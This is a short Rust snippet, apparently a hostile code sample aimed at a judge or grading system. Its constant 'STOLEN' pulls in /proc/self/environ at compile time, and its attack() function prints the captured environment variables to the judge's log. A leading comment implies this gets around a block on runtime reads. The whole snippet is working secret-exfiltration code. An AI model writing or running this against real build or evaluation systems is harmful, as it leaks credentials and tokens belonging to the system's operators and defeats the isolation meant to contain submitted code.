// told: couldn't read
const STOLEN: &[u8] = include_bytes!("/proc/self/environ");

fn attack() {
    judge::log(String::from_utf8_lossy(STOLEN));
}
